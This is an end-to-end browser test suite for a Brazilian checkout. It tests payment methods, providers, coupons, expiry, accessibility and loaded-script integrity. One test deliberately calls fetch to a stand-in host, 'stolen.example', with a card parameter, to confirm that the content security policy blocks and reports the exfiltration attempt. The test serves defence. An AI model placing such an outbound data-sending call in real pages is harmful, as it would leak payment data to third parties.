/** Tests the main job in a real browser: each method through each provider, from the offer's page to money in the database. */
import { createHash } from 'node:crypto';
import type { SimulatorHost } from '@feira/plugin-kit/simulation';
import type { Response } from 'playwright-core';
import { describe, expect, it, vi } from 'vitest';
import { drawCases } from '../../core/test/draw.ts';
import { MANY_CARDS } from '../../core/test/world.ts';
import { listPageScripts } from '../src/build/page-scripts.ts';
import { browser, context, forgive, PHONE, page, WIDE } from './browser-page.ts';
import { hasBehaviour } from './checkout-page.ts';
import { DRAWN, judgeScreens } from './looks.ts';
import { setUpStage, stage } from './stage.ts';
import { listViolations } from './violations.ts';

const CPF = '52998224725';
const APPROVED_CARD = '4111111111111111';
const REFUSED_CARDS: Record<string, string> = {
  sandbox: '4000000000000010',
  asaas: '4916561358240741',
  pagarme: '4000000000000028',
};

setUpStage({ look: { viewport: PHONE }, wantedRefusals: 'none' });

const offerOf = (provider: string) => stage.ids.offers.find(provider === 'sandbox' ? 'course' : `course-${provider}`);

/** Only the sandbox asks what the tests of it alone are about. */
const drawProviders = (providers: string[]) => drawCases(providers, { short: 1, isAlways: (one) => one === 'sandbox' });

let buyers = 0;
/** Another buyer each time: one who bought the same before is asked first. */
async function fillBuyer(method: 'PIX' | 'CREDIT_CARD' | 'BILLET'): Promise<void> {
  await page.fill('[name=name]', 'João Comprador');
  await page.fill('[name=email]', `joao${++buyers}@example.com`);
  await page.check(`[name=paymentMethod][value=${method}]`);
  const address = {
    cpf: CPF,
    phone: '11987654321',
    cep: '01310100',
    street: 'Avenida Paulista',
    number: '1000',
    district: 'Bela Vista',
    city: 'São Paulo',
  };
  for (const [name, value] of Object.entries(address)) {
    const field = page.locator(`[name=${name}]:visible`);
    if (await field.count()) await field.fill(value);
    // The rest of the address opens after the zip code.
    if (name === 'cep' && (await field.count())) await page.locator('[name=street]').waitFor();
  }
  const state = page.locator('[name=state]:visible');
  if (await state.count()) await state.selectOption('SP');
}

async function fillCard(number: string, title = 'Dados do cartão'): Promise<void> {
  const frame = page.frameLocator(`iframe[title="${title}"]`);
  await frame.locator('[autocomplete=cc-number]').fill(number);
  await frame.locator('[autocomplete=cc-name]').fill('JOAO COMPRADOR');
  await frame.locator('[autocomplete=cc-exp]').fill('12/34');
  await frame.locator('[autocomplete=cc-csc]').fill('123');
}

/** The button takes no click while the page still asks what a card costs. */
async function payByCard(): Promise<void> {
  await page.getByLabel('Parcelas').locator('option').nth(1).waitFor({ state: 'attached' });
  await page.click('button[type=submit][aria-disabled=false]');
}

const refusal = () =>
  page.getByText('CARTÃO DE CRÉDITO RECUSADO: Saldo insuficiente ou dados incorretos, confira e tente novamente');

interface StoredPayment {
  id: string;
  status: string;
  method: string;
  amount: number;
  provider: string;
  transaction_id: string;
}

async function findPayment(): Promise<StoredPayment> {
  const publicId = new URL(page.url()).pathname.split('/').at(-1);
  const [payment] = await stage.query<StoredPayment>(
    `SELECT p.id, p.status, p.method, p.amount::int, a.provider, a.transaction_id FROM payment p
     JOIN payment_attempt a ON a.platform_id = p.platform_id AND a.payment_id = p.id WHERE p.platform_id = $1 AND p.public_id = $2`,
    [stage.ids.platformId, publicId],
  );
  if (!payment) throw new Error('The payment page shows a payment that is not stored.');
  return payment;
}

const listEvidence = (payment: StoredPayment) =>
  stage.query<{ source: string; status: string; transaction_id: string }>(
    'SELECT source, status, transaction_id FROM payment_evidence WHERE payment_id = $1 ORDER BY recorded_at',
    [payment.id],
  );

describe.each(drawProviders(['sandbox', 'asaas', 'pagarme']))('buying through %s', DRAWN, (provider) => {
  const simulator = () => stage.simulators.get(provider) as SimulatorHost;

  it.each(['PIX', 'BILLET'] as const)('%s: the page turns to paid when the webhook arrives', async (method) => {
    await page.goto(`${stage.url}/checkout/${offerOf(provider)}?utm_source=teste`);
    await fillBuyer(method);
    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\/[\w-]{22}\?.*utm_source=teste/);
    const waiting = await findPayment();
    expect(waiting).toMatchObject({ status: 'PENDING', method, provider, amount: 19_700 });

    await simulator().simulator.pay(waiting.transaction_id);

    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    const payment = await findPayment();
    expect(payment.status).toBe('APPROVED');
    const evidence = await listEvidence(payment);
    expect(evidence.map(({ source }) => source)).toContain('answer');
    expect(
      evidence.some(({ source, status }) => status === 'APPROVED' && (source === 'webhook' || source === 'query')),
    ).toBe(true);
  });

  it.runIf(provider === 'sandbox').each([
    { answer: 'Confirmar', end: 'Pagamento aprovado', status: 'APPROVED' },
    { answer: 'Recusar', end: 'Pagamento recusado', status: 'REJECTED' },
  ])('CREDIT_CARD: the bank asks its owner on a page of its own: $answer', async ({ answer, end, status }) => {
    await page.goto(`${stage.url}/checkout/${offerOf(provider)}`);
    await fillBuyer('CREDIT_CARD');
    await fillCard('4000000000000085');
    await payByCard();
    await page.waitForURL(/\/checkout\/payment\//);
    await page.getByRole('heading', { name: 'Confirme no seu banco' }).waitFor();
    expect(await listViolations(page)).toEqual([]);
    expect((await findPayment()).status).toBe('PENDING');

    await page.getByRole('link', { name: 'Abrir a página do banco' }).click();
    await page.getByRole('button', { name: answer }).click();

    await page.waitForURL(/\/checkout\/payment\/[\w-]{22}$/);
    await page.getByRole('heading', { name: end }).waitFor();
    expect((await findPayment()).status).toBe(status);
  });

  it('CREDIT_CARD: the card is typed in its frame, never seen by the checkout, and charged in two installments', async () => {
    const bodies: string[] = [];
    page.on(
      'request',
      (request) => request.url().startsWith(`${stage.url}/api/`) && bodies.push(request.postData() ?? ''),
    );
    const handle = vi.spyOn(simulator().simulator, 'handle');
    await page.goto(`${stage.url}/checkout/${offerOf(provider)}`);
    await fillBuyer('CREDIT_CARD');
    await fillCard(APPROVED_CARD);
    await page.getByLabel('Parcelas').selectOption('2');
    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);

    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    const payment = await findPayment();
    expect(payment).toMatchObject({ status: 'APPROVED', method: 'CREDIT_CARD', provider });
    // Interest of two installments is 4.5 %.
    expect(payment.amount).toBe(20_587);
    expect((await listEvidence(payment)).length).toBeGreaterThan(0);
    expect(bodies.join()).not.toContain(APPROVED_CARD);
    if (provider === 'sandbox') {
      const charge = handle.mock.calls.find(([{ method, path }]) => method === 'POST' && path === '/charges')?.[0];
      expect(charge?.body).toMatchObject({
        fingerprints: [{ provider: 'sandbox', value: expect.stringMatching(/^dev_/) }],
      });
    }
  });

  it('CREDIT_CARD: a refused card keeps the order, says why, and becomes a PIX with one click', async () => {
    await page.goto(`${stage.url}/checkout/${offerOf(provider)}`);
    await fillBuyer('CREDIT_CARD');
    await fillCard(REFUSED_CARDS[provider] as string);
    await payByCard();
    await refusal().waitFor();
    expect(page.url()).toContain(`/checkout/${offerOf(provider)}`);
    const email = await page.inputValue('[name=email]');
    expect(email).toBe(`joao${buyers}@example.com`);
    expect(await listViolations(page)).toEqual([]);

    await page.getByRole('button', { name: /^Pagar R\$\s[\d.,]+ com Pix$/ }).click();

    await page.waitForURL(/\/checkout\/payment\//);
    await page.getByRole('heading', { name: 'Falta pagar o Pix' }).waitFor();
    const made = await findPayment();
    const [sale] = await stage.query<{ email: string; total: number }>(
      'SELECT s.buyer_email AS email, s.total::int AS total FROM sale s JOIN payment p ON p.sale_id = s.id WHERE p.id = $1',
      [made.id],
    );
    expect(made).toMatchObject({ method: 'PIX', status: 'PENDING', amount: sale?.total });
    expect(sale?.email).toBe(email);
  });
});

describe.each(drawProviders(['sandbox', 'pagarme']))('two cards through %s', DRAWN, (provider) => {
  const listParts = () =>
    stage.query<{ amount: number; status: string; decision: string; digits: string }>(
      `SELECT a.amount::int, p.status, p.hold_decision AS decision, a.card_last_digits AS digits FROM payment p
       JOIN payment_attempt a ON a.payment_id = p.id WHERE p.id = (
         SELECT p.id FROM payment p JOIN sale s ON s.id = p.sale_id WHERE s.buyer_email = $1 ORDER BY p.created_at DESC LIMIT 1)
       ORDER BY a.created_at, a.id`,
      [`joao${buyers}@example.com`],
    );
  const second = () => page.getByRole('group', { name: 'Segundo cartão' });

  it('share the price, and are charged together', async () => {
    await page.goto(`${stage.url}/checkout/${offerOf(provider)}`);
    await fillBuyer('CREDIT_CARD');
    await fillCard(APPROVED_CARD);
    await page.getByRole('button', { name: 'Pagar com dois cartões' }).click();
    await second().waitFor();
    await expect.poll(() => page.getByLabel('Valor no segundo cartão').inputValue()).toBe('R$\u00a098,50');
    await page.getByLabel('Valor no primeiro cartão').fill('150');
    await page.getByLabel('Valor no segundo cartão').focus();
    await expect.poll(() => page.getByLabel('Valor no segundo cartão').inputValue()).toBe('R$\u00a047,00');
    await page.click('button[type=submit][aria-disabled=false]');
    // Nothing was typed in the second form: it says so, and the first keeps its code.
    await page.frameLocator('iframe[title="Dados do segundo cartão"]').locator('[aria-invalid=true]').first().waitFor();
    expect(await listViolations(page)).toEqual([]);
    await fillCard(APPROVED_CARD, 'Dados do segundo cartão');
    await payByCard();

    await page.waitForURL(/\/checkout\/payment\//);
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    expect(await listViolations(page)).toEqual([]);
    const parts = await listParts();
    expect(parts).toMatchObject([
      { amount: 15_000, status: 'APPROVED', decision: 'CAPTURE' },
      { amount: 4_700, status: 'APPROVED', decision: 'CAPTURE' },
    ]);
    const receipt = page.getByRole('region', { name: 'Comprovante' });
    for (const amount of ['R$\u00a0150,00', 'R$\u00a047,00']) expect(await receipt.textContent()).toContain(amount);
  });

  it.runIf(provider === 'sandbox')(
    'are the next step of a card without limit, and say which one was refused',
    async () => {
      await page.goto(`${stage.url}/checkout/${offerOf(provider)}`);
      await fillBuyer('CREDIT_CARD');
      await fillCard(REFUSED_CARDS[provider] as string);
      await payByCard();
      await refusal().waitFor();

      await page.locator('.alert').getByRole('button', { name: 'Pagar com dois cartões' }).click();
      await second().waitFor();
      await fillCard(APPROVED_CARD);
      await fillCard(REFUSED_CARDS[provider] as string, 'Dados do segundo cartão');
      await payByCard();
      await page.getByText('O cartão final 0010 foi recusado e nada foi cobrado.').waitFor();
      expect(await listParts()).toMatchObject([{ decision: 'VOID', status: 'REJECTED' }, { digits: '0010' }]);

      await page.getByLabel('Valor no segundo cartão').fill('0,50');
      await page.getByLabel('Valor no primeiro cartão').focus();
      await page.getByText('Cada cartão paga no mínimo R$\u00a01,00.').waitFor();
      await page.getByRole('button', { name: 'Pagar com um cartão só' }).click();
      await fillCard(APPROVED_CARD);
      await payByCard();
      await page.waitForURL(/\/checkout\/payment\//);
      await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    },
  );
});

describe('the checkout page', () => {
  const course = () => `${stage.url}/checkout/${offerOf('sandbox')}`;

  it('asks a card form that is not there yet as soon as it is, and does not say that it cannot be opened', async () => {
    const asked = Promise.withResolvers<void>();
    const released = Promise.withResolvers<void>();
    await page.route(/\/card-frame\//, async (route) => {
      asked.resolve();
      await released.promise;
      await route.continue();
    });
    await page.goto(course(), { waitUntil: 'commit' });
    await fillBuyer('CREDIT_CARD');
    await asked.promise;
    await page.click('button[type=submit][aria-disabled=false]');
    released.resolve();

    await page.frameLocator('iframe.card-frame').locator('[aria-invalid=true]').first().waitFor();
    expect(await page.getByText('Não foi possível abrir o formulário do cartão').count()).toBe(0);
    await page.unroute(/\/card-frame\//);
  });

  it('reads the prefill, then forgets it: the address keeps only what is not personal', async () => {
    await page.goto(
      `${course()}?nome=Ana%20Lima&email=ana@example.com&telefone=11987654321&cpf=${CPF}&utm_source=mail`,
    );

    await expect.poll(() => page.inputValue('[name=name]')).toBe('Ana Lima');
    await expect.poll(() => page.inputValue('[name=email]')).toBe('ana@example.com');
    expect(page.url()).toBe(`${course()}?utm_source=mail`);
  });

  it('sells without JavaScript: a form, an error under its field, a payment page with the code', async () => {
    const plain = await browser.newContext({ javaScriptEnabled: false, locale: 'pt-BR' });
    const form = await plain.newPage();
    await form.goto(course());
    await form.fill('[name=name]', 'José da Silva');
    await form.fill('[name=email]', 'ze@exemplo');
    await form.click('button[type=submit]');
    await form.getByText('E-mail inválido').waitFor();
    await expect.poll(() => form.inputValue('[name=name]')).toBe('José da Silva');
    await form.fill('[name=email]', 'ze@example.com');
    await form.click('button[type=submit]');

    await form.waitForURL(/\/checkout\/payment\//);
    await form.getByText('br.gov.bcb.pix').waitFor();
    await plain.close();
  });

  it.each(['PIX', 'BILLET'] as const)(
    '%s: the page tells that the code expired, and makes a new one for the same order',
    async (method) => {
      const { simulator } = stage.simulators.get('sandbox') as SimulatorHost;
      await page.goto(course());
      await fillBuyer(method);
      await page.click('button[type=submit]');
      await page.waitForURL(/\/checkout\/payment\//);
      const address = page.url();
      const old = await findPayment();

      await simulator.expire(old.transaction_id);
      await page.getByRole('heading', { name: 'Pagamento expirado' }).waitFor();
      expect(await listViolations(page)).toEqual([]);
      await page.dblclick(`button:has-text("${method === 'PIX' ? 'Gerar novo código Pix' : 'Gerar novo boleto'}")`);
      const title = method === 'PIX' ? 'Falta pagar o Pix' : 'Seu boleto está pronto';
      await page.getByRole('heading', { name: title }).waitFor();

      expect(new URL(page.url()).pathname).toBe(new URL(address).pathname);
      const charges = await stage.query<{ transaction_id: string }>(
        'SELECT transaction_id FROM payment_attempt WHERE payment_id = $1 AND transaction_id <> $2',
        [old.id, old.transaction_id],
      );
      expect(charges).toHaveLength(1);
      await simulator.pay(charges[0]!.transaction_id);
      await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    },
  );

  it('tells an open page of an expired code that is paid late all the same', async () => {
    const { simulator } = stage.simulators.get('sandbox') as SimulatorHost;
    await page.goto(course());
    await fillBuyer('PIX');
    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);
    const { transaction_id } = await findPayment();
    await simulator.expire(transaction_id);
    await page.getByRole('heading', { name: 'Pagamento expirado' }).waitFor();

    await simulator.pay(transaction_id);

    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
  });

  it('makes a new code without JavaScript, and says so where the offer is no longer sold', async () => {
    const { simulator } = stage.simulators.get('sandbox') as SimulatorHost;
    const plain = await browser.newContext({ javaScriptEnabled: false, locale: 'en' });
    const form = await plain.newPage();
    await form.goto(`${course()}?lang=en`);
    await form.fill('[name=name]', 'José da Silva');
    await form.fill('[name=email]', 'ze@example.com');
    await form.click('button[type=submit]');
    await form.waitForURL(/\/checkout\/payment\//);
    const address = form.url();
    const expire = async () => {
      const [last] = await stage.query<{ transaction_id: string }>(
        `SELECT a.transaction_id FROM payment p JOIN payment_attempt a ON a.payment_id = p.id WHERE p.public_id = $1
         ORDER BY a.created_at DESC LIMIT 1`,
        [new URL(address).pathname.split('/').at(-1)],
      );
      await simulator.expire(last!.transaction_id);
      await expect
        .poll(async () => {
          await form.goto(address);
          return form.getByRole('heading', { level: 1 }).textContent();
        })
        .toBe('Payment expired');
    };

    await expire();
    await form.getByRole('button', { name: 'Get a new Pix code' }).click();
    await form.getByText('br.gov.bcb.pix').waitFor();
    await expect.poll(() => form.getAttribute('html', 'lang')).toBe('en');
    await expire();
    await stage.query('UPDATE offer SET stock_limit = 0 WHERE id = $1', [offerOf('sandbox')]);
    await form.getByRole('button', { name: 'Get a new Pix code' }).click();
    await form.getByText('sold out').waitFor();
    await form.goto(address);
    await form.getByRole('link', { name: 'Buy again' }).waitFor();
    await expect.poll(() => form.getByRole('button', { name: 'Get a new Pix code' }).count()).toBe(0);
    await stage.query('UPDATE offer SET stock_limit = NULL WHERE id = $1', [offerOf('sandbox')]);
    await plain.close();
  });

  it('takes a coupon off the price before it is paid, and says under its field what is wrong with another', async () => {
    await stage.query(
      `INSERT INTO coupon (platform_id, id, seller_id, code, basis_points)
       SELECT p.platform_id, gen_random_uuid(), p.seller_id, 'BEMVINDO', 1000 FROM offer o
       JOIN product p ON p.platform_id = o.platform_id AND p.id = o.product_id WHERE o.platform_id = $1 AND o.id = $2`,
      [stage.ids.platformId, offerOf('sandbox')],
    );
    await page.goto(course());
    await fillBuyer('PIX');
    const field = page.getByLabel('Código do cupom');
    await page.getByText('Cupom de desconto').click();
    await field.fill('NADA10');
    await page.getByRole('button', { name: 'Aplicar cupom' }).click();
    await page.locator('#coupon-error').waitFor();
    forgive('status of 422');
    // The page judges fields a moment after they are left, first the coupon, then the e-mail: of the coupon it says nothing.
    await field.focus();
    await page.fill('[name=email]', 'joao');
    await page.locator('[name=name]').focus();
    await page.locator('#email-error').waitFor();
    await expect.poll(() => page.locator('#coupon-error').isVisible()).toBe(true);
    await page.fill('[name=email]', 'joao@example.com');

    await field.fill('bemvindo');
    await expect.poll(() => field.isVisible()).toBe(true);
    await page.getByRole('button', { name: 'Aplicar cupom' }).click();
    await page.getByText('−R$ 19,70').waitFor();
    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);

    await page.getByText('Cupom BEMVINDO').waitFor();
    expect(await findPayment()).toMatchObject({ amount: 17_730 });
  });

  it('does the work that is asked for while cards are tested, and nobody notices', async () => {
    const setLimit = (refusals: number) =>
      stage.query(`UPDATE platform SET settings = jsonb_set(settings, '{cardLimits,refusalsBeforeChallenge}', $1)`, [
        String(refusals),
      ]);
    await stage.query('DELETE FROM velocity_counter', []);
    await setLimit(1);
    await page.goto(course());
    await fillBuyer('CREDIT_CARD');
    await fillCard(REFUSED_CARDS.sandbox as string);
    await payByCard();
    await refusal().waitFor();

    await fillCard(APPROVED_CARD);
    const asked = page.waitForResponse((response) => response.status() === 403);
    await payByCard();
    expect(await (await asked).json()).toMatchObject({ code: 'CHALLENGE_REQUIRED', challenge: { bits: 16 } });
    await page.waitForURL(/\/checkout\/payment\//);
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();

    forgive('status of 403');
    await setLimit(MANY_CARDS.refusalsBeforeChallenge);
    await stage.query('DELETE FROM velocity_counter', []);
  });

  it('loads no script that the inventory does not list, from the form to the paid order', async () => {
    const known = new Map((await listPageScripts()).map(({ address, integrity }) => [address, integrity]));
    const loaded: { address: string; integrity: Promise<string> }[] = [];
    const note = (response: Response) => {
      if (response.request().resourceType() !== 'script') return;
      const { pathname, origin } = new URL(response.url());
      const integrity = response.body().then((body) => `sha384-${createHash('sha384').update(body).digest('base64')}`);
      loaded.push({ address: origin === new URL(stage.url).origin ? pathname : response.url(), integrity });
    };
    page.on('response', note);
    await page.goto(course());
    await fillBuyer('CREDIT_CARD');
    await fillCard(APPROVED_CARD);
    await payByCard();
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    page.off('response', note);

    const isTokenizer = (address: string) => address.includes('/tokenizers/');
    expect(loaded.map(({ address }) => address).filter((address) => !isTokenizer(address))).not.toEqual([]);
    for (const { address, integrity } of loaded)
      if (!isTokenizer(address)) expect([address, await integrity]).toEqual([address, known.get(address)]);
  });

  it('tells its node what the policy has blocked, and the node says so once', async () => {
    await page.goto(course());
    await page.evaluate(() => fetch('https://stolen.example/take?card=1').catch(() => undefined));

    const reported = () =>
      stage.query(`SELECT page, directive, blocked FROM page_report WHERE blocked LIKE '%stolen%'`, []);
    await expect
      .poll(reported)
      .toEqual([{ page: 'checkout', directive: 'connect-src', blocked: 'https://stolen.example' }]);
    forgive('stolen.example');
  });

  it('charges once when the buyer clicks twice', async () => {
    await page.goto(course());
    await fillBuyer('PIX');
    await page.fill('[name=email]', 'twice@example.com');
    await page.dblclick('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);

    expect(
      await stage.query("SELECT count(*)::int AS sales FROM sale WHERE buyer_email = 'twice@example.com'"),
    ).toEqual([{ sales: 1 }]);
  });

  it('fills the address from the zip code and adds the freight that was chosen', async () => {
    await page.goto(`${stage.url}/checkout/${stage.ids.offers.find('coffee')}`);
    await page.fill('[name=cep]', '01310-100');

    await expect.poll(() => page.inputValue('[name=street]')).toBe('Avenida Paulista');
    await page.getByText('Correios Sedex').click();
    await page.getByText('R$ 114,80').first().waitFor();
  });

  it('leaves the refusal of a card on the page when the zip code is found after it', async () => {
    const asked = Promise.withResolvers<void>();
    const answered = Promise.withResolvers<void>();
    await page.route('**/api/checkout.lookupZipCode*', async (route) => {
      asked.resolve();
      await answered.promise;
      await route.fallback();
    });
    await page.goto(`${stage.url}/checkout/${offerOf('asaas')}`);
    await fillBuyer('CREDIT_CARD');
    await page.fill('[name=street]', 'Outra rua');
    await fillCard(REFUSED_CARDS.asaas as string);
    await asked.promise;
    await payByCard();
    await refusal().waitFor();
    const found = page.waitForResponse(/checkout\.lookupZipCode/);
    answered.resolve();
    await found;

    await expect.poll(() => refusal().isVisible()).toBe(true);
    expect(await page.inputValue('[name=street]')).toBe('Outra rua');
  });

  it('keeps what was typed for the other language, and forgets it once the purchase is paid', async () => {
    const { simulator } = stage.simulators.get('sandbox') as SimulatorHost;
    await page.goto(course());
    await fillBuyer('BILLET');
    await page.getByRole('link', { name: 'English' }).click();
    await page.waitForURL(/lang=en/);
    await expect.poll(() => page.inputValue('[name=name]')).toBe('João Comprador');
    await expect.poll(() => page.inputValue('[name=email]')).toBe(`joao${buyers}@example.com`);
    await expect.poll(() => page.isChecked('[name=paymentMethod][value=BILLET]')).toBe(true);
    expect(await page.evaluate(() => JSON.stringify(Object.entries(sessionStorage)))).not.toMatch(/card|4111/i);

    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);
    const paid = await findPayment();
    await simulator.pay(paid.transaction_id);
    await page.getByRole('heading', { name: 'Payment approved' }).waitFor();
    await page.goto(course());
    await hasBehaviour();

    await expect.poll(() => page.inputValue('[name=name]')).toBe('');
  });

  it('speaks English when asked, and remembers it on the payment page', async () => {
    await page.goto(`${course()}?lang=en`);
    await fillBuyer('PIX');
    await page.click('button[type=submit]');

    await page.waitForURL(/\/checkout\/payment\/.*lang=en/);
    await expect.poll(() => page.getAttribute('html', 'lang')).toBe('en');
  });

  it('loads nothing from anywhere else', async () => {
    const foreign: string[] = [];
    page.on(
      'request',
      (request) =>
        !request.url().startsWith(stage.url) && !request.url().startsWith('data:') && foreign.push(request.url()),
    );
    await page.goto(course());
    await fillBuyer('PIX');
    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);

    expect(foreign).toEqual([]);
  });

  judgeScreens({
    looks: ['pt-BR', 'en'].flatMap((locale) => [PHONE, WIDE].map((viewport) => ({ locale, viewport }))),
    screens: ['checkout'],
    open: (_, { locale }) => page.goto(`${course()}?lang=${locale}`),
  });
});

describe('the payment page', () => {
  async function buyPix(): Promise<StoredPayment> {
    await page.goto(`${stage.url}/checkout/${offerOf('sandbox')}`);
    await fillBuyer('PIX');
    await page.click('button[type=submit]');
    await page.waitForURL(/\/checkout\/payment\//);
    return findPayment();
  }
  const bank = () => (stage.simulators.get('sandbox') as SimulatorHost).simulator;

  it('says that too much was paid and that the rest comes back, and it does', async () => {
    const payment = await buyPix();

    await bank().pay(payment.transaction_id, { times: 2 });

    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
    await expect
      .poll(() =>
        stage.query('SELECT refunded_amount::int AS refunded, settlement FROM payment WHERE id = $1', [payment.id]),
      )
      .toEqual([{ refunded: 19_700, settlement: 'DUPLICATE' }]);
    const charge = await bank().getCharge(payment.transaction_id);
    expect(charge?.paidAmount).toBe(39_400);
  });

  it('shows the approval to a second device that only polls', async () => {
    const payment = await buyPix();
    const other = await context.newPage();
    await other.route('**/events', (route) => route.abort());
    await other.goto(page.url());

    await bank().pay(payment.transaction_id);

    await other.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();
  });

  it('has no accessibility violation while waiting and when paid', async () => {
    const payment = await buyPix();
    expect(await listViolations(page)).toEqual([]);

    await bank().pay(payment.transaction_id);
    await page.getByRole('heading', { name: 'Pagamento aprovado' }).waitFor();

    expect(await listViolations(page)).toEqual([]);
  });
});
